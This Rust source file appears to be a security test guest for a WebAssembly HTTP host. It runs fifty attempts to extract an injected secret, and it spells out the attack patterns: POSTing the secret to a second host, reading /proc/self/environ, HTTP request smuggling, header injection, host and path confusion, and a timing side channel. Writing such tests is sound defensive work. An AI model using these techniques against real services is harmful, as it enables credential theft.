//! Tries, in fifty ways, to get hold of the bound secret `key`, which the host sends to `target` below `/slot/`, or to
//! send it to `other`. `?way=NAME` tries one and answers with all that it got; `/ways` lists them.
//!
//! `target` is an honest echo that does what a path asks of it; see `tests/all/bound/echo.rs`.
use std::time::Duration;

use webtask::{__bindings::wasi::http::outgoing_handler::handle as dispatch, params, secrets};
use webtask_test_guests::{
    Fields, IncomingBody, IncomingRequest, IncomingResponse, Method, OutgoingBody, OutgoingRequest,
    RequestOptions, ResponseOutparam, Scheme, begin, query, raw, write,
};

raw!(handle);

/// One function each.
macro_rules! ways {
    ($($way:ident)*) => {
        const WAYS: &[(&str, fn(&Place) -> Vec<u8>)] = &[$((stringify!($way), $way)),*];
    };
}

ways! {
    ask_by_name ask_in_other_words ask_for_names read_environment read_arguments read_parameters read_files read_own_memory
    read_own_request reflect_in_body reflect_in_header reflect_in_header_name reflect_in_cookie reflect_in_location
    reflect_in_trailer reflect_in_error_page reflect_in_pieces reflect_base64 reflect_base64url reflect_hex reflect_percent
    reflect_json reflect_html reflect_utf16 reflect_gzip forced_gzip reflect_range forced_part reflect_as_early_hint
    reflect_as_upgrade read_byte_by_byte read_until_a_stall read_until_a_break reflect_later reflect_later_elsewhere
    guess_by_what_is_held_back placeholder_in_body placeholder_in_header placeholder_in_path other_host other_path
    other_method tricks_with_the_path tricks_with_the_host follow_a_redirect set_the_header_too set_it_as_trailer
    smuggle_a_request name_it_a_hop tell_the_log
}

/// Where it calls.
struct Place {
    target: String,
    other: String,
    request: Vec<u8>,
}

fn handle(request: IncomingRequest, out: ResponseOutparam) {
    let path = request.path_with_query().unwrap_or_default();
    let mut seen =
        format!("{path} {:?} {:?}\n", request.authority(), request.scheme()).into_bytes();
    for (name, value) in request.headers().entries() {
        seen.extend([name.as_bytes(), b": ", &value, b"\n"].concat());
    }
    let place = Place {
        target: params::get("target").unwrap_or_default(),
        other: params::get("other").unwrap_or_default(),
        request: seen,
    };
    let wanted = query(&path, "way").unwrap_or_default();
    let got = match WAYS.iter().find(|(name, _)| *name == wanted) {
        Some((_, way)) => way(&place),
        None => WAYS
            .iter()
            .flat_map(|(name, _)| format!("{name}\n").into_bytes())
            .collect(),
    };
    // What it got it also says wherever it can.
    println!("{}", String::from_utf8_lossy(&got));
    let body = begin(out, &[]);
    write(&body, &got);
    let _ = OutgoingBody::finish(body, None);
}

/// A call.
struct Call<'a> {
    method: Method,
    authority: &'a str,
    path: &'a str,
    fields: Vec<(&'a str, &'a [u8])>,
    body: &'a [u8],
    trailers: Vec<(&'a str, &'a [u8])>,
    patience: Option<Duration>,
}

impl<'a> Call<'a> {
    fn get(authority: &'a str, path: &'a str) -> Self {
        Self {
            method: Method::Get,
            authority,
            path,
            fields: Vec::new(),
            body: b"",
            trailers: Vec::new(),
            patience: None,
        }
    }

    fn with(mut self, name: &'a str, value: &'a str) -> Self {
        self.fields.push((name, value.as_bytes()));
        self
    }

    fn post(mut self, body: &'a [u8]) -> Self {
        self.method = Method::Post;
        self.body = body;
        self
    }

    fn request(&self) -> Result<OutgoingRequest, String> {
        let fields = Fields::new();
        for (name, value) in &self.fields {
            fields
                .append(name, value)
                .map_err(|error| format!("field {name}: {error:?}"))?;
        }
        let request = OutgoingRequest::new(fields);
        let set = request
            .set_method(&self.method)
            .and_then(|()| request.set_scheme(Some(&Scheme::Http)))
            .and_then(|()| request.set_authority(Some(self.authority)))
            .and_then(|()| request.set_path_with_query(Some(self.path)));
        set.map_err(|()| "not a request".to_owned())?;
        Ok(request)
    }

    /// Everything that came of it: status, fields, body as far as it came, trailers, errors.
    fn send(self) -> Vec<u8> {
        let mut got = Vec::new();
        if let Err(error) = self.try_send(&mut got) {
            got.extend(format!("\n[{error}]\n").into_bytes());
        }
        got
    }

    fn try_send(self, got: &mut Vec<u8>) -> Result<(), String> {
        let request = self.request()?;
        let body = request.body().map_err(|()| "no body")?;
        let options = RequestOptions::new();
        if let Some(patience) = self.patience {
            let nanos = u64::try_from(patience.as_nanos()).unwrap_or(u64::MAX);
            let _ = options.set_between_bytes_timeout(Some(nanos));
        }
        let response = dispatch(request, Some(options)).map_err(|error| format!("{error:?}"))?;
        write(&body, self.body);
        let trailers = Fields::new();
        for (name, value) in &self.trailers {
            trailers
                .append(name, value)
                .map_err(|error| format!("trailer {name}: {error:?}"))?;
        }
        let trailers = (!self.trailers.is_empty()).then_some(trailers);
        let finished = OutgoingBody::finish(body, trailers);
        response.subscribe().block();
        let response = response.get().ok_or("no response")?.map_err(|()| "taken")?;
        if let Err(error) = finished {
            got.extend(format!("[{error:?}]").into_bytes());
        }
        read(response.map_err(|error| format!("{error:?}"))?, got)
    }
}

fn read(response: IncomingResponse, got: &mut Vec<u8>) -> Result<(), String> {
    got.extend(format!("{}\n", response.status()).into_bytes());
    for (name, value) in response.headers().entries() {
        got.extend([name.as_bytes(), b": ", &value, b"\n"].concat());
    }
    let body = response.consume().map_err(|()| "no body")?;
    let stream = body.stream().map_err(|()| "no stream")?;
    let error = loop {
        match stream.blocking_read(64 << 10) {
            Ok(bytes) => got.extend(bytes),
            Err(error) => break format!("{error:?}"),
        }
    };
    drop(stream);
    let trailers = IncomingBody::finish(body);
    trailers.subscribe().block();
    if let Some(Ok(Ok(Some(fields)))) = trailers.get() {
        for (name, value) in fields.entries() {
            got.extend([name.as_bytes(), b": ", &value, b"\n"].concat());
        }
    }
    Err(error)
}

/// What the echo is asked for.
fn echo(place: &Place, asked: &str) -> Vec<u8> {
    Call::get(&place.target, &format!("/slot/echo?{asked}")).send()
}

fn ask_by_name(place: &Place) -> Vec<u8> {
    let got = format!("{:?}", secrets::get("key")).into_bytes();
    let kept = Call::get(&place.other, "/keep").post(&got).send();
    [got, kept].concat()
}

fn ask_in_other_words(_: &Place) -> Vec<u8> {
    let names = [
        "KEY",
        "Key",
        " key",
        "key ",
        "key\0",
        "key\n",
        "./key",
        "*",
        "",
        "secrets.key",
        "authorization",
    ];
    names
        .iter()
        .flat_map(|name| format!("{:?}", secrets::get(name)).into_bytes())
        .collect()
}

fn ask_for_names(_: &Place) -> Vec<u8> {
    format!("{:?}", secrets::names()).into_bytes()
}

fn read_environment(_: &Place) -> Vec<u8> {
    format!("{:?}", std::env::vars_os().collect::<Vec<_>>()).into_bytes()
}

fn read_arguments(_: &Place) -> Vec<u8> {
    format!("{:?}", std::env::args_os().collect::<Vec<_>>()).into_bytes()
}

fn read_parameters(_: &Place) -> Vec<u8> {
    let asked = ["key", "secrets", "authorization"].map(params::get);
    format!("{:?} {asked:?}", params::all()).into_bytes()
}

fn read_files(_: &Place) -> Vec<u8> {
    let paths = [
        "/proc/self/environ",
        "/proc/self/mem",
        "/proc/self/maps",
        "keys.toml",
        "/keys.toml",
        "../keys.toml",
        "/dev/stdin",
    ];
    paths
        .iter()
        .flat_map(|path| format!("{path}: {:?}\n", std::fs::read(path)).into_bytes())
        .collect()
}

/// Fresh memory, after calls that carry the secret.
fn read_own_memory(place: &Place) -> Vec<u8> {
    let mut got = echo(place, "in=body");
    for _ in 0..4 {
        let fresh: Vec<u8> = vec![0; 1 << 20];
        got.extend(fresh.iter().filter(|byte| **byte != 0));
    }
    got
}

fn read_own_request(place: &Place) -> Vec<u8> {
    place.request.clone()
}

fn reflect_in_body(place: &Place) -> Vec<u8> {
    echo(place, "in=body")
}

fn reflect_in_header(place: &Place) -> Vec<u8> {
    echo(place, "in=header")
}

fn reflect_in_header_name(place: &Place) -> Vec<u8> {
    echo(place, "in=name")
}

fn reflect_in_cookie(place: &Place) -> Vec<u8> {
    echo(place, "in=cookie")
}

fn reflect_in_location(place: &Place) -> Vec<u8> {
    echo(place, "in=location")
}

fn reflect_in_trailer(place: &Place) -> Vec<u8> {
    echo(place, "in=trailer")
}

fn reflect_in_error_page(place: &Place) -> Vec<u8> {
    [
        echo(place, "in=body&status=401"),
        echo(place, "in=body&status=500&form=html"),
    ]
    .concat()
}

fn reflect_in_pieces(place: &Place) -> Vec<u8> {
    (1..=8)
        .flat_map(|size| echo(place, &format!("in=body&cut={size}")))
        .collect()
}

fn reflect_base64(place: &Place) -> Vec<u8> {
    let padded =
        ["", "a", "aa"].map(|before| echo(place, &format!("in=body&form=base64&before={before}")));
    [padded.concat(), echo(place, "in=header&form=base64")].concat()
}

fn reflect_base64url(place: &Place) -> Vec<u8> {
    ["", "a", "aa"]
        .map(|before| echo(place, &format!("in=body&form=base64url&before={before}")))
        .concat()
}

fn reflect_hex(place: &Place) -> Vec<u8> {
    echo(place, "in=body&form=hex")
}

fn reflect_percent(place: &Place) -> Vec<u8> {
    [
        echo(place, "in=body&form=percent"),
        echo(place, "in=location&form=percent"),
        echo(place, "in=body&form=percent-all"),
    ]
    .concat()
}

fn reflect_json(place: &Place) -> Vec<u8> {
    echo(place, "in=body&form=json")
}

fn reflect_html(place: &Place) -> Vec<u8> {
    echo(place, "in=body&form=html")
}

fn reflect_utf16(place: &Place) -> Vec<u8> {
    let path = "/slot/echo?in=body&negotiate";
    [
        Call::get(&place.target, path)
            .with("accept-charset", "utf-16")
            .send(),
        echo(place, "in=body&form=utf16"),
    ]
    .concat()
}

fn reflect_gzip(place: &Place) -> Vec<u8> {
    let call = Call::get(&place.target, "/slot/echo?in=body&negotiate");
    call.with("accept-encoding", "x-rot13")
        .with("Accept-Encoding", "x-rot13;q=1")
        .send()
}

/// The echo ignores what is accepted.
fn forced_gzip(place: &Place) -> Vec<u8> {
    [
        echo(place, "in=body&form=rot13&coding=x-rot13"),
        echo(place, "in=body&form=rot13&transfer=x-rot13"),
    ]
    .concat()
}

fn reflect_range(place: &Place) -> Vec<u8> {
    let mut got = Vec::new();
    for from in (0..200).step_by(5) {
        let range = format!("bytes={from}-{}", from + 4);
        let call = Call::get(&place.target, "/slot/echo?in=body&negotiate").with("range", &range);
        got.extend(call.with("if-range", "\"x\"").send());
    }
    got
}

fn forced_part(place: &Place) -> Vec<u8> {
    let parts = (0..20).map(|n| format!("in=body&status=206&part={n}"));
    let lies = (0..20).map(|n| format!("in=body&status=200&content-range&part={n}"));
    parts
        .chain(lies)
        .flat_map(|asked| echo(place, &asked))
        .collect()
}

fn reflect_as_early_hint(place: &Place) -> Vec<u8> {
    echo(place, "in=hint")
}

fn reflect_as_upgrade(place: &Place) -> Vec<u8> {
    let call = Call::get(&place.target, "/slot/echo?in=body&status=101");
    [
        call.with("upgrade", "x").send(),
        echo(place, "in=body&status=101"),
    ]
    .concat()
}

/// What comes before the cut, in the smallest pieces.
fn read_byte_by_byte(place: &Place) -> Vec<u8> {
    let mut got = b"read: ".to_vec();
    let Ok(request) = Call::get(&place.target, "/slot/echo?in=body&cut=1").request() else {
        return b"no request".to_vec();
    };
    let Ok(response) = dispatch(request, None) else {
        return b"no response".to_vec();
    };
    response.subscribe().block();
    if let Some(Ok(Ok(response))) = response.get()
        && let Ok(body) = response.consume()
        && let Ok(stream) = body.stream()
    {
        while let Ok(bytes) = stream.blocking_read(1) {
            got.extend(bytes);
        }
    }
    got
}

/// The echo stops in the middle of the secret, and the guest gives up waiting.
fn read_until_a_stall(place: &Place) -> Vec<u8> {
    let stall = |cut: usize| {
        let path = format!("/slot/echo?in=body&stall={cut}");
        let mut call = Call::get(&place.target, &path);
        call.patience = Some(Duration::from_millis(100));
        call.send()
    };
    [8, 12, 16, 20].map(stall).concat()
}

fn read_until_a_break(place: &Place) -> Vec<u8> {
    [8, 12, 16, 20]
        .map(|cut| echo(place, &format!("in=body&break={cut}")))
        .concat()
}

fn reflect_later(place: &Place) -> Vec<u8> {
    [
        echo(place, "in=body"),
        Call::get(&place.target, "/last").send(),
        Call::get(&place.target, "/slot/last").send(),
    ]
    .concat()
}

/// What the target knows it hands on itself, as a service that tells a callback what it was called with.
fn reflect_later_elsewhere(place: &Place) -> Vec<u8> {
    let calls = [
        echo(place, "in=body"),
        Call::get(&place.target, "/last?in=header").send(),
    ]
    .concat();
    let post = Call::get(&place.other, "/keep").post(&calls).send();
    [calls, post].concat()
}

/// Sends beginnings of what the secret may be to an echo that streams, and sees whether they come back at once.
fn guess_by_what_is_held_back(place: &Place) -> Vec<u8> {
    const LETTERS: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_+/";
    let mut call = Call::get(&place.target, "/slot/stream").post(b"");
    call.method = Method::Post;
    let Ok(request) = call.request() else {
        return b"no request".to_vec();
    };
    let (Ok(body), Ok(response)) = (request.body(), dispatch(request, None)) else {
        return b"no response".to_vec();
    };
    let Ok(to) = body.write() else {
        return b"no stream".to_vec();
    };
    let _ = to.blocking_write_and_flush(b"begin\n");
    response.subscribe().block();
    let Some(Ok(Ok(response))) = response.get() else {
        return b"no response".to_vec();
    };
    let (Ok(_), Ok(incoming)) = (Ok::<(), ()>(()), response.consume()) else {
        return b"no body".to_vec();
    };
    let Ok(from) = incoming.stream() else {
        return b"no stream".to_vec();
    };
    let mut known = Vec::new();
    for _ in 0..6 {
        let mut held = Vec::new();
        for letter in LETTERS {
            let guess = [&known[..], &[*letter]].concat();
            let _ = to.blocking_write_and_flush(&guess);
            // Back at once, or held back?
            std::thread::sleep(Duration::from_millis(2));
            let at_once = from
                .read(1 << 10)
                .map(|bytes| bytes.len())
                .unwrap_or_default();
            let _ = to.blocking_write_and_flush(b"\n\n");
            let mut rest = at_once;
            while rest < guess.len() + 2 {
                match from.blocking_read(1 << 10) {
                    Ok(bytes) => rest += bytes.len(),
                    Err(_) => return [&b"cut after "[..], &known].concat(),
                }
            }
            if at_once < guess.len() {
                held.push(*letter);
            }
        }
        match held[..] {
            [letter] => known.push(letter),
            // Some, not all: upper and lower case are one, or a machine under load.
            [letter, other] if letter.eq_ignore_ascii_case(&other) => known.push(letter),
            _ => break,
        }
    }
    [&b"the secret begins with "[..], &known].concat()
}

const PLACEHOLDERS: &str =
    "{} {{key}} ${key} $key %key% <key> [key] {{secrets.key}} ${secrets.key} @key key Bearer {}";

fn placeholder_in_body(place: &Place) -> Vec<u8> {
    let calls = [(&place.target, "/slot/echo?in=sent"), (&place.other, "/")];
    calls
        .map(|(to, path)| Call::get(to, path).post(PLACEHOLDERS.as_bytes()).send())
        .concat()
}

fn placeholder_in_header(place: &Place) -> Vec<u8> {
    let names = [
        "x-key",
        "user-agent",
        "origin",
        "referer",
        "cookie",
        "authorization",
    ];
    let fields = || names.map(|name| (name, PLACEHOLDERS.as_bytes())).to_vec();
    let mut to_other = Call::get(&place.other, "/");
    to_other.fields = fields();
    let mut to_target = Call::get(&place.target, "/slot/echo?in=sent");
    to_target.fields = fields();
    to_target.fields.pop();
    [to_other.send(), to_target.send()].concat()
}

fn placeholder_in_path(place: &Place) -> Vec<u8> {
    let paths = ["/{}", "/?key={}", "/$key", "/%7B%7D?%7Bkey%7D"];
    let to_target =
        paths.map(|path| Call::get(&place.target, &format!("/slot/echo{path}&in=sent")).send());
    [
        to_target.concat(),
        paths
            .map(|path| Call::get(&place.other, path).send())
            .concat(),
    ]
    .concat()
}

fn other_host(place: &Place) -> Vec<u8> {
    Call::get(&place.other, "/slot/echo?in=body").send()
}

fn other_path(place: &Place) -> Vec<u8> {
    [
        "/echo?in=body",
        "/slot",
        "/Slot/echo?in=body",
        "/slotx/echo?in=body",
    ]
    .map(|path| Call::get(&place.target, path).send())
    .concat()
}

fn other_method(place: &Place) -> Vec<u8> {
    let methods = [
        Method::Put,
        Method::Head,
        Method::Options,
        Method::Trace,
        Method::Connect,
        Method::Other("get".into()),
    ];
    let send = |method| {
        Call {
            method,
            ..Call::get(&place.target, "/slot/echo?in=body")
        }
        .send()
    };
    methods.map(send).concat()
}

fn tricks_with_the_path(place: &Place) -> Vec<u8> {
    let paths = [
        "/slot/../echo?in=body",
        "/slot/%2e%2e/echo?in=body",
        "//slot/echo?in=body",
        "/slot//echo?in=body",
        "/slot%2fecho?in=body",
        "/slot/./echo?in=body",
        "/slot\\echo?in=body",
    ];
    paths
        .map(|path| Call::get(&place.target, path).send())
        .concat()
}

fn tricks_with_the_host(place: &Place) -> Vec<u8> {
    let (target, other) = (&place.target, &place.other);
    let authorities = [
        format!("{target}@{other}"),
        format!("{other}#{target}"),
        format!("{target}.{other}"),
        format!("{target},{other}"),
        format!("{target} {other}"),
    ];
    let mut got: Vec<u8> = authorities
        .iter()
        .flat_map(|to| Call::get(to, "/slot/echo?in=body").send())
        .collect();
    for name in [
        "host",
        "Host",
        "forwarded",
        "x-forwarded-host",
        "x-original-url",
        ":authority",
    ] {
        got.extend(
            Call::get(other, "/slot/echo?in=body")
                .with(name, target)
                .send(),
        );
        got.extend(
            Call::get(target, "/slot/echo?in=body")
                .with(name, other)
                .send(),
        );
    }
    got
}

fn follow_a_redirect(place: &Place) -> Vec<u8> {
    let asked = format!("to=http://{}/slot/echo", place.other);
    let first = echo(place, &asked);
    let text = String::from_utf8_lossy(&first).into_owned();
    let to = text
        .lines()
        .find_map(|line| line.strip_prefix("location: http://"))
        .unwrap_or_default();
    let (authority, path) = to.split_once('/').unwrap_or((to, ""));
    [first, Call::get(authority, &format!("/{path}")).send()].concat()
}

fn set_the_header_too(place: &Place) -> Vec<u8> {
    let path = "/slot/echo?in=sent";
    let one = |name| Call::get(&place.target, path).with(name, "mine").send();
    let mut got = [
        "authorization",
        "Authorization",
        "AUTHORIZATION",
        "aUtHoRiZaTiOn",
    ]
    .map(one)
    .concat();
    got.extend(
        Call::get(&place.target, path)
            .with("authorization", "")
            .send(),
    );
    got.extend(
        Call::get(&place.target, path)
            .with("authorization", "a")
            .with("Authorization", "b")
            .send(),
    );
    got.extend(one("authorization "));
    got
}

fn set_it_as_trailer(place: &Place) -> Vec<u8> {
    let trailer = |name| {
        let mut call = Call::get(&place.target, "/slot/echo?in=sent").post(b"body");
        call.trailers = vec![(name, b"mine")];
        call.send()
    };
    [
        "authorization",
        "Authorization",
        "host",
        "content-length",
        "transfer-encoding",
        "cookie",
    ]
    .map(trailer)
    .concat()
}

/// A second request within the first, which the target would answer with what it was sent.
fn smuggle_a_request(place: &Place) -> Vec<u8> {
    let inner = format!(
        "GET /slot/echo?in=body HTTP/1.1\r\nhost: {}\r\n\r\n",
        place.target
    );
    let send = |name: &str, value: &str| {
        Call::get(&place.target, "/slot/echo?in=sent")
            .post(inner.as_bytes())
            .with(name, value)
            .send()
    };
    let mut got = [
        ("content-length", "0"),
        ("content-length", "5"),
        ("Content-Length", "+5"),
        ("transfer-encoding", "chunked"),
        ("Transfer-Encoding", "identity"),
        ("x", "y\r\nauthorization: z"),
    ]
    .map(|(name, value)| send(name, value))
    .concat();
    let call = Call::get(&place.target, "/slot/echo?in=sent").post(inner.as_bytes());
    got.extend(
        call.with("content-length", "5")
            .with("content-length", "6")
            .send(),
    );
    got.extend(Call::get(&place.target, "/slot/echo HTTP/1.1\r\nx: y\r\n\r\n").send());
    got
}

/// Whatever stands in `connection` a proxy takes out, and whatever `te` allows may come as a trailer.
fn name_it_a_hop(place: &Place) -> Vec<u8> {
    let fields = [
        "connection",
        "Connection",
        "keep-alive",
        "te",
        "trailer",
        "proxy-authorization",
        "proxy-connection",
        "upgrade",
        "expect",
        "webtask-token",
    ];
    fields
        .map(|name| {
            Call::get(&place.target, "/slot/echo?in=body")
                .with(name, "authorization")
                .send()
        })
        .concat()
}

fn tell_the_log(place: &Place) -> Vec<u8> {
    let got = echo(place, "in=body");
    for line in String::from_utf8_lossy(&got).lines() {
        webtask::log::error!("{line}");
        eprintln!("{line}");
    }
    format!("{:?}", secrets::get("key")).into_bytes()
}
